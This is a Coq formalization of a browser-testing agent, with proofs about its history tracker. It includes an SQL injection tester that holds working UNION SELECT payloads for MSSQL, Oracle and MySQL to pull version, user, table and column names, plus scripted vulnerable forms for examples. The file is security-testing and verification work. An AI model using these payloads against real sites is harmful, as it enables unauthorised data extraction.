
Definition _analyze_db_name (content : string) : step unit :=
  report_name "数据库名称: " content.

Definition _analyze_tables (content : string) : step unit :=
  report_name "表名: " content.

Definition _analyze_columns (content : string) : step unit :=
  report_name "列名: " content.

(** *** [_extract_database_info] *)

Definition db_info_payloads (ty : string) : list string :=
  if String.eqb ty "mssql" then
    ["' UNION SELECT 1,@@version-- ";
     "' UNION SELECT 1,DB_NAME()-- ";
     "' UNION SELECT 1,CURRENT_USER-- ";
     "' UNION SELECT 1,name FROM sysobjects WHERE xtype='U' ORDER BY name OFFSET 0 ROWS FETCH NEXT 1 ROWS ONLY-- ";
     "' UNION SELECT 1,name FROM syscolumns WHERE id=OBJECT_ID('users')-- "]
  else if String.eqb ty "oracle" then
    ["' UNION SELECT 1,banner FROM v$version WHERE ROWNUM=1-- ";
     "' UNION SELECT 1,owner FROM all_tables WHERE ROWNUM=1-- ";
     "' UNION SELECT 1,table_name FROM all_tables WHERE ROWNUM=1-- ";
     "' UNION SELECT 1,column_name FROM all_tab_columns WHERE table_name='USERS' AND ROWNUM=1-- "]
  else
    ["' UNION SELECT 1,@@version#";
     "' UNION SELECT 1,database()#";
     "' UNION SELECT 1,user()#";
     "' UNION SELECT 1,table_name FROM information_schema.tables WHERE table_schema=database() LIMIT 0,1#";
     "' UNION SELECT 1,column_name FROM information_schema.columns WHERE table_name='users' LIMIT 0,1#"].

(** The payload adjusted to [column_count] columns: [1] everywhere but in
    the second place, which takes the second comma-separated part of the
    payload. *)
Definition adjusted (value : string) (column_count : Z) : outcome string :=
  match List.nth_error (comma_parts value) 1 with
  | Some part =>
      Returns ("' UNION SELECT "
               ++ PyStr.join ","
                    (List.map (fun i => if i =? 2 then PyStr.strip part else "1")
                              (SQLInjectionTester.one_to column_count)))
  | None => Raises "list index out of range"
  end.

(** The analyzer chosen by the text of the payload. *)
Definition analyse (value content : string) : step unit :=
  if PyStr.contains "version" value then _analyze_db_version content
  else if (PyStr.contains "database()" value || PyStr.contains "DB_NAME()" value)%bool
  then _analyze_db_name content
  else if (PyStr.contains "table_name" value
           || PyStr.contains "name FROM sysobjects" value)%bool
  then _analyze_tables content
  else if (PyStr.contains "column_name" value
           || PyStr.contains "name FROM syscolumns" value)%bool
  then _analyze_columns content
  else ret tt.

Definition column_count_now : step Z :=
  read (fun s => s.(tester).(SQLInjectionTester.column_count)).

Fixpoint extract_loop (sel : string) (payloads : list string) : step unit :=
  match payloads with
  | [] => ret tt
  | value :: rest =>
      count <- column_count_now ;;
      value' <- (if count >? 1 then (fun s => (adjusted value count, s))
                 else ret value) ;;
      info_content <- response sel value' ;;
      analyse value' info_content ;;;
      leave ;;;
      extract_loop sel rest
  end.

Definition _extract_database_info (p : SQLInjectionTester.input_point) : step unit :=
  let sel := p.(SQLInjectionTester.selector) in
  _determine_db_type sel ;;;
  ty <- read db_type ;;
  extract_loop sel (db_info_payloads ty).

(** *** [test] *)

Definition skipped_types : list string :=
  ["checkbox"; "radio"; "file"; "button"; "image"; "submit"].

Definition is_skipped (p : SQLInjectionTester.input_point) : bool :=
  List.existsb (String.eqb p.(SQLInjectionTester.input_type)) skipped_types.

(** The loop over [enumerate(input_points)], from the index [idx]; the
    value is [vulnerable_inputs]. *)
Fixpoint test_points (idx : Z) (points : list SQLInjectionTester.input_point)
    (vulnerable_inputs : list SQLInjectionTester.input_point)
    : step (list SQLInjectionTester.input_point) :=
  match points with
  | [] => ret vulnerable_inputs
  | p :: rest =>
      if is_skipped p then test_points (idx + 1) rest vulnerable_inputs
      else
        tested <- lift (SQLInjectionTester._test_input_point pg p idx) ;;
        if fst tested then
          record_vulnerability
            {| input_point := snd tested; kind := "sql_injection";
               description := "该输入点存在SQL注入漏洞" |} ;;;
          count <- column_count_now ;;
          (if count >? 0 then _extract_database_info (snd tested) else ret tt) ;;;
          test_points (idx + 1) rest (vulnerable_inputs ++ [snd tested])%list
        else test_points (idx + 1) rest vulnerable_inputs
  end.

End OnPage.

Variable env : agent.

(** [await self.collect_input_points(page)] *)
Definition collect : step (list SQLInjectionTester.input_point) :=
  fun s =>
    let '(r, w) := env.(collect_input_points) s.(tester).(SQLInjectionTester.world) in
    (r,
     with_tester
       {| SQLInjectionTester.world := w;
          SQLInjectionTester.test_details := s.(tester).(SQLInjectionTester.test_details);
          SQLInjectionTester.column_count := s.(tester).(SQLInjectionTester.column_count);
          SQLInjectionTester.calls := s.(tester).(SQLInjectionTester.calls) |} s).

Definition results : step summary := read get_test_results.

Definition test : step summary :=
  set_status "running" ;;;
  match env.(page) with
  | None =>
      set_status "error" ;;;
      record_test_result "init" "error" "浏览器页面未初始化" ;;;
      results
  | Some pg =>
      url <- read (fun s => env.(page_url) s.(tester).(SQLInjectionTester.world)) ;;
      record_test_result "start" "info" ("开始SQL注入测试，目标URL: " ++ url) ;;;
      input_points <- collect ;;
      match input_points with
      | [] =>
          record_test_result "input_collection" "warning" "未发现任何输入点" ;;;
          set_status "no_input_points" ;;;
          results
      | _ =>
          record_test_result "input_collection" "success"
            ("发现 " ++ PyStr.of_Z (Z.of_nat (List.length input_points))
             ++ " 个可能的输入点") ;;;
          vulnerable_inputs <- test_points pg 0 input_points [] ;;
          match vulnerable_inputs with
          | [] =>
              set_status "secure" ;;;
              record_test_result "summary" "success" "未发现SQL注入漏洞" ;;;
              results
          | _ =>
              set_status "vulnerable" ;;;
              record_test_result "summary" "warning"
                ("发现 " ++ PyStr.of_Z (Z.of_nat (List.length vulnerable_inputs))
                 ++ " 个存在SQL注入漏洞的输入点") ;;;
              results
          end
      end
  end.

End WithAgent.

End SQLInjectionRun.

(** ** A scripted session

  A session whose answers are functions of the URL of the page: the
  concrete instance of the interface on which the examples run. *)

Module Scripted.

(** What the site and the chat endpoint answer. *)
Record site := {
  reachable : string -> bool;          (* [goto] succeeds *)
  can_go_back : bool;                  (* [go_back] succeeds *)
  clickable : string -> bool;          (* [click] succeeds *)
  status_of : string -> outcome Z;
  content_of : string -> string;
  body_of : string -> outcome string;
  js_errors_of : string -> outcome (list string);
  title_of : string -> outcome string;
  api_key : option string;
  chat_of : string -> outcome Session.chat_response
}.

(** The page shown, the pages before it, and the clock. *)
Record world := {
  url : string;
  visited : list string;
  ticks : Z
}.

Definition opened (u : string) : world := {| url := u; visited := []; ticks := 0 |}.

Definition tick (w : world) : world :=
  {| url := w.(url); visited := w.(visited); ticks := w.(ticks) + 1 |}.

Definition navigate (u : string) (w : world) : world :=
  {| url := u; visited := w.(url) :: w.(visited); ticks := w.(ticks) + 1 |}.

Definition back (w : world) : world :=
  match w.(visited) with
  | [] => tick w
  | u :: rest => {| url := u; visited := rest; ticks := w.(ticks) + 1 |}
  end.

Definition ops (s : site) : Session.ops world :=
  {| Session.page_url := url;
     Session.clock := ticks;
     Session.goto := fun u w =>
       if s.(reachable) u then (Returns tt, navigate u w)
       else (Raises "net::ERR_CONNECTION_REFUSED", tick w);
     Session.go_back := fun w =>
       if s.(can_go_back) then (Returns tt, back w)
       else (Raises "Timeout 30000ms exceeded", tick w);
     Session.click := fun sel _ w =>
       if s.(clickable) sel then (Returns tt, tick w)
       else (Raises "Timeout 45000ms exceeded", tick w);
     Session.keyboard_press := fun _ w => (Returns tt, tick w);
     Session.reload := fun w => (Returns tt, tick w);
     Session.wait_for_load_state := fun w => (Returns tt, tick w);
     Session.title := fun w => (s.(title_of) w.(url), w);
     Session.get_page_content := fun w => (s.(content_of) w.(url), w);
     Session.take_screenshot := fun w => (EmptyString, w);
     Session.evaluate_status := fun w => (s.(status_of) w.(url), w);
     Session.evaluate_body_text := fun w => (s.(body_of) w.(url), w);
     Session.evaluate_js_errors := fun w => (s.(js_errors_of) w.(url), w);
     Session.locator_count := fun _ w => (Returns 0, w);
     Session.getenv_api_key := fun _ => s.(api_key);
     Session.post_chat := fun _ _ w => (s.(chat_of) w.(url), tick w) |}.

(** A fresh agent on a page, with the defaults of the constructor. *)
Definition fresh_agent (u : string) : Agent.t world :=
  {| Agent.world := opened u;
     Agent.state_tracker := BrowserStateTracker.init 10 true;
     Agent.auto_recovery := true;
     Agent.error_recovery_level := 3;
     Agent.use_vision := false;
     Agent.test_framework := None;
     Agent.messages := [];
     Agent.calls := [] |}.



(** The answer of the chat endpoint with the given text. *)
Definition answers (ai_response : string) : outcome Session.chat_response :=
  Returns {| Session.status_code := 200; Session.text := EmptyString;
             Session.body := Session.Answer ai_response |}.

End Scripted.

(** ** A scripted page for the tester

    A form whose response is a function of the text submitted; going back
    shows the form again. *)

Module ScriptedPage.

Record world := {
  shown : string;      (* the text of the page *)
  typed : string       (* the content of the field *)
}.

Definition opened (baseline : string) : world :=
  {| shown := baseline; typed := EmptyString |}.

Definition ops (baseline : string) (respond : string -> string)
    : SQLInjectionTester.ops world :=
  {| SQLInjectionTester.fill := fun _ value w =>
       (Returns tt, {| shown := w.(shown); typed := value |});
     SQLInjectionTester.find_form := fun _ w => (Returns true, w);
     SQLInjectionTester.find_submit := fun w => (Returns true, w);
     SQLInjectionTester.click_submit := fun w =>
       (Returns tt, {| shown := respond w.(typed); typed := EmptyString |});
     SQLInjectionTester.press := fun _ _ w =>
       (Returns tt, {| shown := respond w.(typed); typed := EmptyString |});
     SQLInjectionTester.inner_text := fun w => (Returns w.(shown), w);
     SQLInjectionTester.go_back := fun w =>
       (Returns tt, {| shown := baseline; typed := EmptyString |});
     SQLInjectionTester.sleep := fun w => w |}.

(** A text input named [name]. *)
Definition text_input (name : string) : SQLInjectionTester.input_point :=
  {| SQLInjectionTester.selector := "[name='" ++ name ++ "']";
     SQLInjectionTester.input_type := "text";
     SQLInjectionTester.name := name;
     SQLInjectionTester.id := EmptyString;
     SQLInjectionTester.is_vulnerable := false;
     SQLInjectionTester.vulnerability_types := Some [] |}.

End ScriptedPage.

(** ** Scenarios for the examples *)

Module Scenarios.

(** A site that answers nothing: no navigation succeeds, the page shows
    no signal, and the chat endpoint is down. *)
Definition dead_site : Scripted.site :=
  {| Scripted.reachable := fun _ => false;
     Scripted.can_go_back := false;
     Scripted.clickable := fun _ => false;
     Scripted.status_of := fun _ => Returns 200;
     Scripted.content_of := fun _ => "cart";
     Scripted.body_of := fun _ => Returns "cart";
     Scripted.js_errors_of := fun _ => Returns ["ReferenceError: cart is not defined"];
     Scripted.title_of := fun _ => Returns "Cart";
     Scripted.api_key := Some "sk-test";
     Scripted.chat_of := fun _ => Raises "ConnectionError" |}.

(** An agent on the cart page, one error already marked there. *)
Definition troubled_agent : Agent.t Scripted.world :=
  Agent.tracker_mark_error (Scripted.ops dead_site) "http://shop/cart"
    "JavaScript错误: ReferenceError: cart is not defined"
    (Scripted.fresh_agent "http://shop/cart").

(** The classifier reports the JavaScript error of the page again, at
    level 1. *)
Definition second_minor_error : bool * list string * Agent.t Scripted.world :=
  Agent._handle_error_with_recovery (Scripted.ops dead_site)
    "JavaScript错误: ReferenceError: cart is not defined" 1 [] troubled_agent.


(** The same shop with no API key in the environment. *)
Definition keyless_site : Scripted.site :=
  {| Scripted.reachable := fun _ => true;
     Scripted.can_go_back := true;
     Scripted.clickable := fun _ => true;
     Scripted.status_of := fun _ => Returns 200;
     Scripted.content_of := fun _ => "页面标题: Login";
     Scripted.body_of := fun _ => Returns "Login";
     Scripted.js_errors_of := fun _ => Returns [];
     Scripted.title_of := fun _ => Returns "Login";
     Scripted.api_key := None;
     Scripted.chat_of := fun _ => Scripted.answers "状态:正常 这是一个登录页面" |}.





(** A search form that satisfies both the boolean and the error oracle:
    the true condition lists rows, the false one lists none, and anything
    else breaks the query. *)
Definition leaky_search (value : string) : string :=
  if String.eqb value "1' AND '1'='1"
  then "3 results: alice, bob, carol"
  else if String.eqb value "1' AND '1'='2"
  then "No results"
  else "You have an error in your SQL syntax near line 1".

Definition leaky_page : SQLInjectionTester.ops ScriptedPage.world :=
  ScriptedPage.ops "Search" leaky_search.

(** A form that answers every submission with a validation message. *)
Definition strict_form (value : string) : string := "Invalid input".

Definition strict_page : SQLInjectionTester.ops ScriptedPage.world :=
  ScriptedPage.ops "Search" strict_form.

(** A query of three columns: ORDER BY N is answered with the rows for
    N <= 3 and with the complaint of the database from N = 4 on. *)
Definition three_columns (value : string) : string :=
  if List.existsb (fun n => String.eqb value ("' ORDER BY " ++ PyStr.of_Z n ++ "-- "))
                  [1; 2; 3]
  then "alice, bob, carol"
  else if PyStr.startswith "' ORDER BY " value
  then "Unknown column in order clause"
  else "alice, bob, carol".

Definition three_column_page : SQLInjectionTester.ops ScriptedPage.world :=
  ScriptedPage.ops "Search" three_columns.

(** The tester on the form, nothing tested yet. *)
Definition fresh_tester : SQLInjectionTester.t ScriptedPage.world :=
  SQLInjectionTester.start (ScriptedPage.opened "Search").

(** The agent on the search form: the page has a text input and a
    checkbox. *)
Definition search_agent : SQLInjectionRun.agent ScriptedPage.world :=
  {| SQLInjectionRun.page := Some leaky_page;
     SQLInjectionRun.page_url := fun _ => "http://shop/search";
     SQLInjectionRun.collect_input_points := fun w =>
       (Returns
          [ScriptedPage.text_input "q";
           {| SQLInjectionTester.selector := "#all";
              SQLInjectionTester.input_type := "checkbox";
              SQLInjectionTester.name := "all";
              SQLInjectionTester.id := "all";
              SQLInjectionTester.is_vulnerable := false;
              SQLInjectionTester.vulnerability_types := Some [] |}], w) |}.

(** The tester of the run on the form, nothing tested yet. *)
Definition fresh_run : SQLInjectionRun.t ScriptedPage.world :=
  SQLInjectionRun.init (ScriptedPage.opened "Search").

End Scenarios.

(** ** The messages sent to the model: [Agent.trim_messages_to_fit]

    A message is a dictionary with a role and a content.  The model keeps
    the role and the text [str(content)] of the content, which is all the
    function reads of a message; it returns messages of its argument, not
    copies.  The estimate [int(total_chars * 0.25)] is the quotient of
    the number of characters by four (the product is exact below 2^53
    characters).  Nothing in the body raises on such messages, so the
    handler that returns the messages unchanged is never entered. *)

Module Conversation.

Definition message : Type := (string * string)%type.
Definition role (m : message) : string := fst m.
Definition content (m : message) : string := snd m.

(** [sum(len(str(m.get("content", ""))) for m in messages)] *)
Definition total_chars (messages : list message) : Z :=
  List.fold_left (fun acc m => acc + PyStr.len (content m)) messages 0.

Definition estimated_tokens (messages : list message) : Z :=
  total_chars messages / 4.

Definition holds_html (m : message) : bool :=
  PyStr.contains "```html" (content m).

Definition has_role (r : string) (m : message) : bool := String.eqb (role m) r.

(** The messages with their indices, from index [i] on. *)
Fixpoint enumerate_from (i : Z) (messages : list message) : list (Z * message) :=
  match messages with
  | [] => []
  | m :: rest => (i, m) :: enumerate_from (i + 1) rest
  end.

(** [range(len(messages) - 1, -1, -1)], each index with its message. *)
Definition backwards (messages : list message) : list (Z * message) :=
  List.rev (enumerate_from 0 messages).

(** The first loop: the last index whose message holds an HTML block, with
    the message at that index; [None] when [html_message_idx] stays [-1]. *)
Definition latest_html (messages : list message) : option (Z * message) :=
  List.find (fun entry => holds_html (snd entry)) (backwards messages).

(** The second loop, from the last message down: the HTML message is
    skipped, the first user message and the first assistant message met
    are kept, and the loop ends once both are found. *)
Fixpoint recent_scan (html_message_idx : Z) (entries : list (Z * message))
    (user_found assistant_found : bool) (recent_messages : list message)
    : list message :=
  match entries with
  | [] => recent_messages
  | (i, m) :: rest =>
      if i =? html_message_idx
      then recent_scan html_message_idx rest user_found assistant_found
             recent_messages
      else
        let '(recent, user, assistant) :=
          if (has_role "user" m && negb user_found)%bool
          then ((recent_messages ++ [m])%list, true, assistant_found)
          else if (has_role "assistant" m && negb assistant_found)%bool
          then ((recent_messages ++ [m])%list, user_found, true)
          else (recent_messages, user_found, assistant_found) in
        if (user && assistant)%bool then recent
        else recent_scan html_message_idx rest user assistant recent
  end.

(** [messages[-3:]] *)
Definition last_three (messages : list message) : list message :=
  List.skipn (List.length messages - 3)%nat messages.

Definition trim_messages_to_fit (messages : list message) (max_tokens : Z)
    : list message :=
  if estimated_tokens messages <=? max_tokens then messages
  else
    match latest_html messages with
    | Some (html_message_idx, html_message) =>
        let system_messages := List.filter (has_role "system") messages in
        let recent_messages :=
          recent_scan html_message_idx (backwards messages) false false [] in
        (system_messages ++ List.rev recent_messages ++ [html_message])%list
    | None => last_three messages
    end.

(** The messages [_get_llm_response] prepares: the system prompt, the
    history summary when it is not empty, the second message of the
    conversation (the task), the latest custom prompt of the user, the
    text of the current page, and the latest message with the results of
    a batch.  [messages] is [self.messages] once the guidance of the
    framework, if any, is appended; [history_summary] is what
    [generate_simple_history_summary] returned and [current_page] what
    [get_current_page_content] returned. *)
Definition final_messages (system_prompt history_summary : string)
    (messages : list message) (user_prompt_enabled : bool)
    (user_custom_prompts : list string) (current_page : string)
    : list message :=
  ([("system", system_prompt)]
   ++ (if PyStr.truthy history_summary then [("system", history_summary)] else [])
   ++ match messages with
      | _ :: task :: _ => [task]
      | _ => []
      end
   ++ (if user_prompt_enabled
       then match List.rev user_custom_prompts with
            | latest :: _ => [("system", ("用户自定义指示: " ++ latest)%string)]
            | [] => []
            end
       else [])
   ++ [("user", current_page)]
   ++ match List.find (fun msg => (has_role "user" msg
                                   && PyStr.contains "命令执行结果" (content msg))%bool)
              (List.rev messages) with
      | Some msg => [msg]
      | None => []
      end)%list.

(** [self.trim_messages_to_fit(final_messages)], with the default limit. *)
Definition trimmed_messages (system_prompt history_summary : string)
    (messages : list message) (user_prompt_enabled : bool)
    (user_custom_prompts : list string) (current_page : string)
    : list message :=
  trim_messages_to_fit
    (final_messages system_prompt history_summary messages user_prompt_enabled
       user_custom_prompts current_page) 60000.

(** A conversation with a page of a hundred characters of markup. *)
Definition page_text : string :=
  "```html
<html><body><form><input name='q'><input type='submit'></form><p>0123456789</p></body></html>
```".

Definition sample : list message :=
  [("system", "prompt"); ("user", "task"); ("assistant", "GOTO http://t/");
   ("user", "first result"); ("assistant", "CLICK #go"); ("user", page_text);
   ("user", "second result")].

End Conversation.

(* ================================================================== *)
(** * Part II: the properties *)
(* ================================================================== *)

(** ** Facts about the tracker *)

Section TrackerFacts.

Import BrowserStateTracker.

Lemma last_n_length {A : Type} (n : nat) (l : list A) :
  List.length (last_n n l) = Nat.min n (List.length l).
Proof.
  unfold last_n. rewrite List.length_skipn. lia.
Qed.

Lemma tl_skipn {A : Type} (k : nat) (l : list A) :
  List.tl (List.skipn k l) = List.skipn (S k) l.
Proof.
  revert l. induction k as [|k IH]; intros [|x l]; simpl; auto.
Qed.

(** Appending one element and dropping the oldest when the bound is
    exceeded keeps the last [n] elements. *)
Lemma last_n_snoc {A : Type} (n : nat) (l : list A) (e : A) :
  last_n n (l ++ [e])%list =
  let l' := (last_n n l ++ [e])%list in
  if Z.of_nat (List.length l') >? Z.of_nat n then List.tl l' else l'.
Proof.
  cbv zeta. rewrite List.length_app, last_n_length. simpl List.length.
  rewrite Z.gtb_ltb.
  destruct (Z.ltb_spec (Z.of_nat n) (Z.of_nat (Nat.min n (List.length l) + 1)))
    as [Hover | Hfits]; unfold last_n; rewrite List.length_app; simpl List.length.
  - replace (List.length l + 1 - n)%nat with (S (List.length l - n)) by lia.
    rewrite <- tl_skipn, List.skipn_app.
    replace (List.length l - n - List.length l)%nat with 0%nat by lia.
    reflexivity.
  - replace (List.length l + 1 - n)%nat with 0%nat by lia.
    replace (List.length l - n)%nat with 0%nat by lia.
    reflexivity.
Qed.

Lemma accepted_app (cs1 cs2 : list call) :
  accepted (cs1 ++ cs2) = (accepted cs1 ++ accepted cs2)%list.
Proof.
  induction cs1 as [|c cs1 IH]; simpl; auto.
  destruct (entry_of c); simpl; rewrite IH; reflexivity.
Qed.

Lemma accepted_not_ignored (cs : list call) :
  List.Forall (fun e => ignored_url e.(url) = false) (accepted cs).
Proof.
  induction cs as [|c cs IH]; simpl; [constructor|].
  destruct c as [u stable ti now | u d now]; simpl;
    destruct (ignored_url u) eqn:Hu; auto; constructor; auto.
Qed.

(** What a run of calls keeps: the capacity, the window of the accepted
    entries, and the URL list as the projection of the entries. *)
Record tracks (n : nat) (acc : list state_info) (s : t) : Prop := {
  tracks_max : s.(max_history) = Z.of_nat n;
  tracks_states : s.(state_history) = last_n n acc;
  tracks_urls : s.(url_history) = List.map url s.(state_history)
}.

Lemma tl_map {A B : Type} (f : A -> B) (l : list A) :
  List.tl (List.map f l) = List.map f (List.tl l).
Proof. destruct l; reflexivity. Qed.

Lemma record_url_tracks n acc s u stable ti now :
  tracks n acc s ->
  tracks n (acc ++ accepted [RecordUrl u stable ti now]) (record_url u stable ti now s).
Proof.
  intros [Hm Hs Hu]. unfold record_url. simpl accepted.
  destruct (ignored_url u) eqn:Hi.
  - rewrite List.app_nil_r. split; assumption.
  - set (e := {| url := u; title := ti; timestamp := now; is_stable := stable |}).
    set (over := Z.of_nat (List.length (s.(url_history) ++ [u])) >? s.(max_history)).
    assert (Hst : (if over then List.tl (s.(state_history) ++ [e])
                   else (s.(state_history) ++ [e])%list) = last_n n (acc ++ [e])).
    { subst over. rewrite last_n_snoc. cbv zeta.
      rewrite Hu, <- Hs, <- Hm, !List.length_app, List.length_map. reflexivity. }
    clearbody over.
    assert (Hur : (if over then List.tl (s.(url_history) ++ [u])
                   else (s.(url_history) ++ [u])%list) =
                  List.map url (if over then List.tl (s.(state_history) ++ [e])
                                else (s.(state_history) ++ [e])%list)).
    { rewrite Hu.
      replace (List.map url s.(state_history) ++ [u])%list
        with (List.map url (s.(state_history) ++ [e]))
        by (rewrite List.map_app; reflexivity).
      destruct over; [apply tl_map | reflexivity]. }
    destruct stable; split; simpl; auto.
Qed.

Lemma do_call_tracks n acc s c :
  tracks n acc s -> tracks n (acc ++ accepted [c]) (do_call c s).
Proof.
  intros H. destruct c as [u stable ti now | u d now]; simpl do_call.
  - apply record_url_tracks; assumption.
  - unfold mark_error.
    change (accepted [MarkError u d now])
      with (accepted [RecordUrl u false PyStr.empty now]).
    apply record_url_tracks.
    destruct H as [Hm Hs Hu]. split; assumption.
Qed.

Lemma run_calls_tracks n cs acc s :
  tracks n acc s -> tracks n (acc ++ accepted cs) (run_calls cs s).
Proof.
  revert acc s. induction cs as [|c cs IH]; intros acc s H.
  - simpl. rewrite List.app_nil_r. assumption.
  - change (run_calls (c :: cs) s) with (run_calls cs (do_call c s)).
    change (c :: cs) with ([c] ++ cs)%list.
    rewrite accepted_app, List.app_assoc.
    apply IH, do_call_tracks, H.
Qed.

Lemma init_tracks n ar : tracks n [] (init (Z.of_nat n) ar).
Proof. split; reflexivity. Qed.

Lemma Forall_skipn {A : Type} (P : A -> Prop) (k : nat) (l : list A) :
  List.Forall P l -> List.Forall P (List.skipn k l).
Proof.
  intros H. revert k. induction H; intros [|k]; simpl; auto.
Qed.

Lemma not_ignored_spelled (u : string) :
  ignored_url u = false -> u <> EmptyString /\ u <> "about:blank".
Proof.
  unfold ignored_url. intros H. apply orb_false_iff in H. destruct H as [H1 H2].
  split; intros ->; simpl in *; discriminate.
Qed.

(** C7.  Started from a fresh tracker of capacity [mh >= 0], after any
    sequence of [record_url] and [mark_error] calls the history holds at
    most [mh] entries, these are exactly the last [mh] accepted entries in
    call order (the oldest is the one evicted), the URL list mirrors them,
    and none of them has an empty URL or the URL about:blank. *)
Theorem history_bounded_fifo (mh : Z) (ar : bool) (cs : list call) :
  0 <= mh ->
  let s := run_calls cs (init mh ar) in
  Z.of_nat (List.length s.(state_history)) <= mh /\
  s.(state_history) = last_n (Z.to_nat mh) (accepted cs) /\
  s.(url_history) = List.map url s.(state_history) /\
  List.Forall (fun e => e.(url) <> EmptyString /\ e.(url) <> "about:blank")
              s.(state_history).
Proof.
  intros Hmh s.
  assert (H : tracks (Z.to_nat mh) ([] ++ accepted cs) s).
  { apply run_calls_tracks. rewrite <- (Z2Nat.id mh) at 2 by assumption.
    apply init_tracks. }
  destruct H as [Hm Hs Hu]. simpl in Hs.
  repeat split; auto.
  - rewrite Hs, last_n_length. lia.
  - rewrite Hs. unfold last_n. apply Forall_skipn.
    eapply List.Forall_impl; [|apply accepted_not_ignored].
    intros e He. apply not_ignored_spelled, He.
Qed.

Lemma history_bounded_fifo_witness :
  Z.of_nat (List.length
    (run_calls [RecordUrl "http://a" true "A" 1;
                MarkError "about:blank" "boom" 2;
                RecordUrl "http://b" true "B" 3;
                MarkError "http://c" "boom" 4] (init 2 true)).(state_history)) <= 2 /\
  List.map url
    (run_calls [RecordUrl "http://a" true "A" 1;
                MarkError "about:blank" "boom" 2;
                RecordUrl "http://b" true "B" 3;
                MarkError "http://c" "boom" 4] (init 2 true)).(state_history)
  = ["http://b"; "http://c"].
Proof.
  destruct (@history_bounded_fifo 2 true
              [RecordUrl "http://a" true "A" 1;
               MarkError "about:blank" "boom" 2;
               RecordUrl "http://b" true "B" 3;
               MarkError "http://c" "boom" 4]) as (H1 & H2 & _).
  - lia.
  - split; [exact H1 | rewrite H2; reflexivity].
Defined.

(** C10.  [mark_error] on an empty URL or on about:blank still raises the
    error flag and adds one to the consecutive-error count, and leaves both
    history lists and the stable pointer as they were. *)
Theorem mark_error_ignored_url_counts (u details : string) (now : Z) (s : t) :
  u = EmptyString \/ u = "about:blank" ->
  let s' := mark_error u details now s in
  s'.(has_error) = true /\
  s'.(consecutive_errors) = s.(consecutive_errors) + 1 /\
  s'.(state_history) = s.(state_history) /\
  s'.(url_history) = s.(url_history) /\
  s'.(last_stable_url) = s.(last_stable_url).
Proof.
  intros Hu s'. subst s'. unfold mark_error, record_url.
  assert (Hi : ignored_url u = true) by (destruct Hu; subst; reflexivity).
  rewrite Hi. simpl. repeat split; reflexivity.
Qed.

Lemma mark_error_ignored_url_counts_witness :
  (mark_error "about:blank" "boom" 2
     (record_url "http://a" true "A" 1 (init 10 true))).(has_error) = true /\
  (mark_error "about:blank" "boom" 2
     (record_url "http://a" true "A" 1 (init 10 true))).(consecutive_errors) = 1 /\
  (mark_error "about:blank" "boom" 2
     (record_url "http://a" true "A" 1 (init 10 true))).(url_history) = ["http://a"].
Proof.
  destruct (@mark_error_ignored_url_counts "about:blank" "boom" 2
              (record_url "http://a" true "A" 1 (init 10 true)))
    as (H1 & H2 & _ & H4 & _).
  - right; reflexivity.
  - split; [exact H1|]. split; [rewrite H2; reflexivity | rewrite H4; reflexivity].
Defined.

(** *** Reachable trackers *)

(** What every operation preserves: the two lists move together, no entry
    has an ignored URL, a set stable pointer is not empty, and while the
    pointer is unset no entry is stable. *)
Record wellformed (s : t) : Prop := {
  wf_urls : s.(url_history) = List.map url s.(state_history);
  wf_entries : List.Forall (fun e => ignored_url e.(url) = false) s.(state_history);
  wf_pointer :
    match s.(last_stable_url) with
    | Some u => PyStr.truthy u = true
    | None => List.Forall (fun e => e.(is_stable) = false) s.(state_history)
    end
}.

Lemma Forall_tl {A : Type} (P : A -> Prop) (l : list A) :
  List.Forall P l -> List.Forall P (List.tl l).
Proof. intros H; destruct H; simpl; auto. Qed.

Lemma Forall_snoc {A : Type} (P : A -> Prop) (l : list A) (x : A) :
  List.Forall P l -> P x -> List.Forall P (l ++ [x]).
Proof. intros Hl Hx. apply List.Forall_app. split; auto. Qed.

Lemma Forall_window {A : Type} (P : A -> Prop) (b : bool) (l : list A) :
  List.Forall P l -> List.Forall P (if b then List.tl l else l).
Proof. intros H. destruct b; [apply Forall_tl|]; exact H. Qed.

Lemma record_url_wellformed u stable ti now s :
  wellformed s -> wellformed (record_url u stable ti now s).
Proof.
  intros [Hu He Hp]. unfold record_url.
  destruct (ignored_url u) eqn:Hi; [split; assumption|].
  set (e := {| url := u; title := ti; timestamp := now; is_stable := stable |}).
  set (over := Z.of_nat _ >? _). clearbody over.
  assert (Hurls : (if over then List.tl (s.(url_history) ++ [u])
                   else (s.(url_history) ++ [u])%list) =
                  List.map url (if over then List.tl (s.(state_history) ++ [e])
                                else (s.(state_history) ++ [e])%list)).
  { rewrite Hu.
    replace (List.map url s.(state_history) ++ [u])%list
      with (List.map url (s.(state_history) ++ [e]))
      by (rewrite List.map_app; reflexivity).
    destruct over; [apply tl_map | reflexivity]. }
  assert (Hents : List.Forall (fun x => ignored_url x.(url) = false)
                    (if over then List.tl (s.(state_history) ++ [e])
                     else (s.(state_history) ++ [e])%list)).
  { apply Forall_window, Forall_snoc; auto. }
  destruct stable; split; simpl; auto.
  - unfold ignored_url in Hi. apply orb_false_iff in Hi.
    destruct Hi as [Hi _]. apply negb_false_iff in Hi. exact Hi.
  - destruct s.(last_stable_url); auto.
    apply Forall_window, Forall_snoc; auto.
Qed.

Lemma do_op_wellformed o s : wellformed s -> wellformed (do_op o s).
Proof.
  intros H. destruct o as [[u stable ti now | u d now] | |]; simpl.
  - apply record_url_wellformed, H.
  - unfold mark_error. apply record_url_wellformed.
    destruct H as [Hu He Hp]. split; assumption.
  - split; simpl; auto.
  - destruct H as [Hu He Hp]. split; assumption.
Qed.

Lemma reachable_wellformed s : reachable s -> wellformed s.
Proof.
  intros (mh & ar & os & ->).
  assert (H0 : wellformed (init mh ar)) by (split; simpl; auto).
  revert H0. generalize (init mh ar).
  induction os as [|o os IH]; intros s0 H0; simpl; auto.
  apply IH, do_op_wellformed, H0.
Qed.

Lemma find_none_of_Forall {A : Type} (f : A -> bool) (l : list A) :
  List.Forall (fun x => f x = false) l -> List.find f l = None.
Proof.
  induction 1 as [|x l Hx _ IH]; simpl; auto. rewrite Hx. exact IH.
Qed.

Lemma Forall_removelast {A : Type} (P : A -> Prop) (l : list A) :
  List.Forall P l -> List.Forall P (List.removelast l).
Proof.
  induction 1 as [|x l Hx Hl IH]; simpl; auto.
  destruct l; auto.
Qed.

(** The entry before the newest one, read from the front of the list. *)
Lemma nth_error_second_to_last {A : Type} (l r : list A) (a b : A) :
  List.rev l = a :: b :: r ->
  List.nth_error l (List.length l - 2) = Some b /\ Nat.ltb 1 (List.length l) = true.
Proof.
  intros H. apply (f_equal (@List.rev A)) in H.
  rewrite List.rev_involutive in H. subst l. simpl.
